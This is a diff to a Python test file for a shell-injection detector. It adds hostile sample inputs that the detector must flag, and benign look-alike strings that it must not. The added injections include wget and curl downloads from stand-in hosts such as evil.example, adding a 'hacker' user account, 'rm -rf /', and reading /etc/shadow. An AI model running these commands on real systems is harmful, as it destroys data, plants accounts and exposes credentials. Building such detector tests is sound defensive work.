@@ -103,6 +103,13 @@ INJECTIONS = [
     "require('child_process').exec('id')",
     "!!python/object/new:exec [import socket]",
     'Ev al ("Ex"&"e"&"cute(""On Error Resume Next:Response.Write(1)"")")',
+    "$(printf 'id')",
+    "& net user hacker P@ss /add",
+    "wget http://evil.example/x.sh",
+    "curl http://203.0.113.9/a",
+    "curl -o /tmp/x http://evil.example/a",
+    "; rm -rf / --no-preserve-root",
+    "x; cat the file /etc/shadow now",
 ]
 
 PAYMENT_API_TEXT = [
@@ -161,7 +168,20 @@ PAYMENT_API_TEXT = [
     "/usr/local/bin/python3",
     "how to cat a file in linux",
     "__utmz=1.1600000000.1.1.utmcsr=google|utmccn=(organic)|utmcmd=organic",
+    # prose about commands after a line break or separator, and searches for them
+    "Hello,\nrm -rf is dangerous, don't run it as root!",
+    "Shipping: 3 days; set it to 10. Tried it with C:\\Users\\me\\report (final).pdf",
+    "It works && cat README first. I <3 this",
+    "curl -X POST https://api.example.com",
+    "wget https://example.com/file.zip",
+    "cat /etc/hosts windows equivalent",
 ]
+
+
+@pytest.mark.parametrize("value", ["a; ren+x", "; start+", "& copy+a,b", "x;type+y"])
+def test_a_program_glued_to_plus_words_does_not_crash(value: str) -> None:
+    # Splitting `ren+x` made words the raw text lacks; reading its arguments raised.
+    detect_shell(value)
 
 
 @pytest.mark.parametrize("value", INJECTIONS)
